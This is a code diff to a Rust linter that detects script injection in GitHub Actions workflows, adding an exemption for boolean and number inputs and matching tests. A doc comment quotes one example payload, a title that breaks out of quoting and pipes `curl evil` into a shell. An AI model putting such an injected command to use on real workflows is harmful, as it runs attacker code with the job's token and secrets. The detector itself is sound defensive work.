@@ -6,8 +6,10 @@
 //! so a title such as `"; curl evil | sh; "` becomes code running with the job's token and
 //! secrets. Passed through `env:` the same value is data: the script reads `"$TITLE"`.
 //! Issue #14 lists the contexts; `inputs.*` counts only in workflows a person or another
-//! workflow triggers with inputs (`workflow_dispatch`, `workflow_call`).
+//! workflow triggers with inputs (`workflow_dispatch`, `workflow_call`), and not for an
+//! input declared `boolean` or `number` (its value cannot carry text).
 
+use std::collections::BTreeSet;
 use std::sync::LazyLock;
 
 use bundle_core::ops::report::Severity;
@@ -52,18 +54,23 @@ static INPUTS: LazyLock<Regex> = LazyLock::new(|| {
         .expect("static regex")
 });
 
-/// The untrusted contexts one expression body reads, in order of appearance.
-fn untrusted_in(body: &str, with_inputs: bool) -> Vec<String> {
+/// The untrusted contexts one expression body reads, in order of appearance. `inputs` is
+/// `None` when the workflow takes no inputs, else the inputs that cannot carry text.
+fn untrusted_in(body: &str, inputs: Option<&BTreeSet<String>>) -> Vec<String> {
     let mut found: Vec<(usize, String)> = UNTRUSTED
         .captures_iter(body)
         .filter_map(|c| c.get(1))
         .map(|m| (m.start(), m.as_str().to_owned()))
         .collect();
-    if with_inputs {
+    if let Some(typed) = inputs {
         found.extend(
             INPUTS
                 .captures_iter(body)
                 .filter_map(|c| c.get(1))
+                .filter(|m| {
+                    let name = m.as_str().rsplit('.').next().unwrap_or_default();
+                    !typed.contains(&name.to_ascii_lowercase())
+                })
                 .map(|m| (m.start(), m.as_str().to_owned())),
         );
     }
@@ -82,7 +89,7 @@ fn run(cx: &Context) -> Outcome {
     with_workflows(cx, |workflows| {
         let mut findings = Vec::new();
         for wf in workflows {
-            let with_inputs = takes_inputs(wf);
+            let inputs = takes_inputs(wf).then_some(&wf.typed_inputs);
             for job in &wf.jobs {
                 for step in &job.steps {
                     let script = step
@@ -102,7 +109,7 @@ fn run(cx: &Context) -> Outcome {
                         .map(|r| (r.text.as_str(), r.line, "`run:`"));
                     for (text, first_line, place) in run.into_iter().chain(script) {
                         for e in expr::expressions(text) {
-                            for context in untrusted_in(e.body, with_inputs) {
+                            for context in untrusted_in(e.body, inputs) {
                                 findings.push(at(
                                     &wf.path,
                                     Some(expr::line_at(text, first_line, e.offset)),
@@ -124,6 +131,8 @@ fn run(cx: &Context) -> Outcome {
 
 #[cfg(test)]
 mod tests {
+    use std::collections::BTreeSet;
+
     use super::untrusted_in;
     use crate::controls::testkit::{Repo, assert_fail_at, assert_pass};
 
@@ -207,6 +216,11 @@ mod tests {
         assert_fail_at(&outcome, WF, Some(8));
         assert_eq!(outcome.locations.len(), 2);
         assert_pass(&run_on("push", steps));
+        let typed = "\n  workflow_dispatch:\n    inputs:\n      target: {type: boolean}\n  workflow_call:\n    inputs:\n      env: {type: number}";
+        assert_pass(&run_on(typed, steps));
+        let outcome = run_on(&typed.replace("type: number", "type: string"), steps);
+        assert_eq!(outcome.locations.len(), 1);
+        assert!(outcome.message.contains("`github.event.inputs.env`"));
     }
 
     #[test]
@@ -236,7 +250,7 @@ mod tests {
             "GITHUB.HEAD_REF",
         ];
         for context in untrusted {
-            assert_eq!(untrusted_in(&format!(" {context} "), false), [context]);
+            assert_eq!(untrusted_in(&format!(" {context} "), None), [context]);
         }
         let trusted = [
             "github.sha",
@@ -249,10 +263,11 @@ mod tests {
             "inputs.target",
         ];
         for context in trusted {
-            assert!(untrusted_in(context, false).is_empty(), "{context}");
+            assert!(untrusted_in(context, None).is_empty(), "{context}");
         }
+        let typed = BTreeSet::from(["dry_run".to_owned()]);
         assert_eq!(
-            untrusted_in("format('{0}', inputs.target)", true),
+            untrusted_in("format('{0}', inputs.target, inputs.DRY_RUN)", Some(&typed)),
             ["inputs.target"]
         );
     }
